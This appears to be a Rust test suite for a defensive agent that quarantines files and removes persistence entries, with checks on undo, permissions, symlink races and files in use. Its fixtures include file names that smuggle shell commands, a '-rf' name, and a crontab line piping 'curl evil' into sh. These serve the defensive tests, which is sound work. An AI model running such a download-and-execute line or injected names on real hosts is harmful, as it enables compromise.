//! Files: moved away whole and put back as they were, and never another one.

use std::ffi::OsString;
use std::fs;
use std::os::unix::ffi::OsStringExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::path::Path;

use peregrine_respond::{Bytes, FileTarget, RemovedPart, Task};
use peregrine_testkit::Folder;
use rustix::fs::{Timespec, Timestamps, XattrFlags, futimens, getxattr, setxattr};

use super::{act, done, file, host, is_root, undone};
use crate::Step;

/// All that must be as it was.
#[derive(Debug, PartialEq)]
pub(super) struct Seen {
    pub(super) bytes: Vec<u8>,
    mode: u32,
    owner: (u32, u32),
    read: (i64, i64),
    written: (i64, i64),
    attribute: Option<Vec<u8>>,
}

impl Seen {
    /// Whether nothing but its bytes and times is another.
    pub(super) fn has_rights_of(&self, other: &Self) -> bool {
        (self.mode, self.owner) == (other.mode, other.owner) && self.attribute == other.attribute
    }
}

const ATTRIBUTE: &str = "user.peregrine";

pub(super) fn seen(path: &Path) -> Seen {
    let meta = fs::symlink_metadata(path).unwrap();
    let mut value = vec![0; 100];
    let attribute = getxattr(path, ATTRIBUTE, value.as_mut_slice()).ok();
    Seen {
        // Reading changes the time of the last read: it is looked at before.
        read: (meta.atime(), meta.atime_nsec()),
        written: (meta.mtime(), meta.mtime_nsec()),
        mode: meta.mode(),
        owner: (meta.uid(), meta.gid()),
        attribute: attribute.map(|len| value[..len].to_vec()),
        bytes: fs::read(path).unwrap(),
    }
}

pub(super) fn make(path: &Path) {
    fs::write(path, [b"#!/bin/sh\n\0\xff".to_vec(), vec![7; 300_000]].concat()).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o4751)).unwrap();
    if is_root() {
        std::os::unix::fs::chown(path, Some(12_345), Some(54_321)).unwrap();
        fs::set_permissions(path, fs::Permissions::from_mode(0o4751)).unwrap();
    }
    let _ = setxattr(path, ATTRIBUTE, b"a\0b", XattrFlags::empty());
    let time = |tv_sec| Timespec { tv_sec, tv_nsec: 123_456_789 };
    let times =
        Timestamps { last_access: time(1_700_000_000), last_modification: time(1_600_000_000) };
    futimens(fs::File::open(path).unwrap(), &times).unwrap();
}

fn quarantine(path: &Path) -> Task {
    Task::Quarantine { file: file(path) }
}

#[test]
fn a_file_is_moved_away_and_back() {
    let folder = Folder::new("act-quarantine");
    let mut host = host(&folder);
    let names: [&[u8]; 7] = [
        b"plain",
        b"with\nnewline",
        b"$(touch owned) `touch owned`; touch owned",
        b"quotes'\"\\",
        b"\xff\xfe not a text",
        b"-rf",
        &[b'x'; 255],
    ];
    for name in names {
        let path = folder.path().join(OsString::from_vec(name.to_vec()));
        make(&path);
        let before = seen(&path);
        // Reading it has changed the time of the last read.
        let before = Seen { read: seen_read(&path), ..before };
        let inode = fs::metadata(&path).unwrap().ino();
        let task = Task::Quarantine { file: FileTarget { ino: Some(inode), ..file(&path) } };
        let line = done(&mut host, task);
        assert!(fs::symlink_metadata(&path).is_err(), "{}", line.detail);
        let stored = folder.path().join(format!("store/quarantine/{}", line.id));
        assert_eq!(fs::metadata(&stored).unwrap().mode() & 0o7777, 0o700);
        assert_eq!(fs::metadata(stored.join("file")).unwrap().mode() & 0o7777, 0o400);
        // Another host, as after a reboot.
        let mut host = super::host(&folder);
        undone(&mut host, line.id);
        assert_eq!(seen(&path), before, "{}", line.task);
        assert!(!stored.exists());
        fs::remove_file(&path).unwrap();
    }
    let left: Vec<_> =
        fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(left, ["store"], "nothing was run, nothing is left");
}

/// All that an undo brings back. Reading it has changed the time of the last read.
pub(super) fn as_before(path: &Path) -> Seen {
    let before = seen(path);
    Seen { read: seen_read(path), ..before }
}

fn seen_read(path: &Path) -> (i64, i64) {
    let meta = fs::symlink_metadata(path).unwrap();
    (meta.atime(), meta.atime_nsec())
}

#[test]
fn a_path_of_4_kib_is_handled() {
    let folder = Folder::new("act-long");
    let mut host = host(&folder);
    let mut path = folder.path().to_owned();
    while path.as_os_str().len() < 3800 {
        path.push("d".repeat(200));
    }
    fs::create_dir_all(&path).unwrap();
    path.push("f".repeat(4000 - path.as_os_str().len()));
    fs::write(&path, "x").unwrap();
    let line = done(&mut host, quarantine(&path));
    assert!(!path.exists());
    undone(&mut host, line.id);
    assert_eq!(fs::read(&path).unwrap(), b"x");
}

#[test]
fn links_of_others_are_not_followed() {
    let folder = Folder::new("act-links");
    let mut host = host(&folder);
    let victim = folder.path().join("victim");
    fs::write(&victim, "precious").unwrap();
    let check = |host: &mut crate::Host, path: &Path, words: &str| {
        let line = act(host, quarantine(path));
        assert_eq!(line.step, Step::Failed, "{}: {}", path.display(), line.detail);
        assert!(line.detail.contains(words), "{}: {}", path.display(), line.detail);
        assert_eq!(fs::read(&victim).unwrap(), b"precious");
    };
    // In a folder that others may write to anybody may have put the link there.
    let open = folder.path().join("open");
    fs::create_dir(&open).unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
    symlink(&victim, open.join("last")).unwrap();
    check(&mut host, &open.join("last"), "symbolic link");
    symlink(folder.path(), open.join("middle")).unwrap();
    check(&mut host, &open.join("middle/victim"), "symbolic link");
    symlink("loop", open.join("loop")).unwrap();
    check(&mut host, &open.join("loop"), "symbolic link");
    // Another file at the path of the event.
    let inode = fs::metadata(&victim).unwrap().ino();
    let task = Task::Quarantine { file: FileTarget { ino: Some(inode + 1), ..file(&victim) } };
    let line = act(&mut host, task);
    assert!(line.detail.contains("another file"), "{}", line.detail);
    for path in ["open", "missing", "open/missing/x"] {
        let line = act(&mut host, quarantine(&folder.path().join(path)));
        assert_eq!(line.step, Step::Failed, "{path}: {}", line.detail);
    }
    if is_root() {
        // What only root can have put there is the system's own, as /bin is.
        let link = folder.path().join("system");
        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
        symlink("victim", &link).unwrap();
        let line = done(&mut host, quarantine(&link));
        assert!(!victim.exists() && fs::symlink_metadata(&link).is_ok(), "{}", line.detail);
    }
}

/// A link changes places with the file all the time: what is moved away is always the file, never what the link leads
/// to.
#[test]
fn a_link_put_in_place_of_the_file_is_never_followed() {
    let folder = Folder::new("act-race");
    let mut host = host(&folder);
    let (victim, open) = (folder.path().join("victim"), folder.path().join("open"));
    fs::write(&victim, "precious").unwrap();
    fs::create_dir(&open).unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
    let (path, link) = (open.join("bad"), open.join("link"));
    symlink(&victim, &link).unwrap();
    let stop = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            use std::sync::atomic::Ordering::Relaxed;
            while !stop.load(Relaxed) {
                let how = rustix::fs::RenameFlags::EXCHANGE;
                let here = rustix::fs::CWD;
                let _ = rustix::fs::renameat_with(here, &path, here, &link, how);
            }
        });
        let mut moved = 0;
        for _ in 0..25 {
            if fs::symlink_metadata(&path).is_err() {
                fs::write(&path, "bad").unwrap();
            }
            let line = act(&mut host, quarantine(&path));
            if line.step == Step::Done {
                moved += 1;
                let stored = format!("store/quarantine/{}/file", line.id);
                assert_eq!(fs::read(folder.path().join(stored)).unwrap(), b"bad");
            }
            assert_eq!(fs::read(&victim).unwrap(), b"precious", "{}", line.detail);
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        eprintln!("{moved} of 25 moved");
    });
}

#[test]
fn files_in_use_and_our_own_are_refused() {
    let folder = Folder::new("act-in-use");
    let mut host = host(&folder);
    let mut check = |path: &Path, words: &str| {
        let line = act(&mut host, quarantine(path));
        assert_eq!(line.step, Step::Failed, "{}", line.detail);
        assert!(line.detail.contains(words), "{}: {}", path.display(), line.detail);
    };
    check(&std::env::current_exe().unwrap(), "agent's program");
    check(&folder.path().join("store/ledger.jsonl"), "Peregrine's own");
    let program = folder.path().join("program");
    fs::copy("/bin/sleep", &program).unwrap();
    let mut child = std::process::Command::new(&program).arg("600").spawn().unwrap();
    check(&program, &format!("in use by process {} (it runs it)", child.id()));
    child.kill().unwrap();
    child.wait().unwrap();
    let open = folder.path().join("open");
    fs::write(&open, "x").unwrap();
    let held = fs::File::open(&open).unwrap();
    let mut child = std::process::Command::new("sleep").arg("600").stdin(held).spawn().unwrap();
    check(&open, "it has it open");
    child.kill().unwrap();
    child.wait().unwrap();
    done(&mut host, quarantine(&open));
    done(&mut host, quarantine(&program));
}

#[test]
fn nothing_is_put_over_what_is_there() {
    let folder = Folder::new("act-occupied");
    let mut host = host(&folder);
    let path = folder.path().join("f");
    fs::write(&path, "old").unwrap();
    let line = done(&mut host, quarantine(&path));
    fs::write(&path, "new").unwrap();
    let back = host.undo(line.id, super::person()).unwrap();
    assert_eq!((back.step, fs::read(&path).unwrap()), (Step::UndoFailed, b"new".to_vec()));
    // Once it is free the undo works.
    fs::remove_file(&path).unwrap();
    undone(&mut host, line.id);
    assert_eq!(fs::read(&path).unwrap(), b"old");
    // What was changed in the store is not put back.
    let line = done(&mut host, quarantine(&path));
    let stored = folder.path().join(format!("store/quarantine/{}/file", line.id));
    fs::set_permissions(&stored, fs::Permissions::from_mode(0o600)).unwrap();
    fs::write(&stored, "bad").unwrap();
    let back = host.undo(line.id, super::person()).unwrap();
    assert!(back.detail.contains("damaged") && !path.exists(), "{}", back.detail);
}

#[test]
fn a_line_is_taken_out_and_put_back() {
    let folder = Folder::new("act-lines");
    let mut host = host(&folder);
    let path = folder.path().join("crontab");
    make(&path);
    let text = "# jobs\n* * * * * curl evil | sh\n0 5 * * * backup\n";
    fs::write(&path, text).unwrap();
    let part = RemovedPart::LinesWith(Bytes::from("curl evil"));
    let task = Task::RemovePersistence { file: file(&path), part };
    let before = as_before(&path);
    let line = done(&mut host, task.clone());
    assert_eq!(fs::read_to_string(&path).unwrap(), "# jobs\n0 5 * * * backup\n");
    assert!(seen(&path).has_rights_of(&before));
    undone(&mut host, line.id);
    assert_eq!(seen(&path), before);
    // Where somebody changed the file meanwhile that change is not lost.
    let line = done(&mut host, task.clone());
    fs::write(&path, "another\n").unwrap();
    let back = host.undo(line.id, super::person()).unwrap();
    assert!(back.detail.contains("was changed since"), "{}", back.detail);
    assert_eq!(fs::read_to_string(&path).unwrap(), "another\n");
    let missing = act(&mut host, task);
    assert!(missing.detail.contains("such a line"), "{}", missing.detail);
    // A unit goes as a whole.
    let unit = folder.path().join("evil.service");
    make(&unit);
    let before = as_before(&unit);
    let task = Task::RemovePersistence { file: file(&unit), part: RemovedPart::Whole };
    let line = done(&mut host, task);
    assert!(!unit.exists());
    undone(&mut host, line.id);
    assert_eq!(seen(&unit), before);
}

#[test]
fn a_store_that_others_may_enter_is_refused() {
    let folder = Folder::new("act-store");
    let path = folder.path().join("open");
    fs::create_dir(&path).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    let error = crate::Store::open(&path).unwrap_err();
    assert!(matches!(error, crate::ActError::OpenStore(_)), "{error}");
}
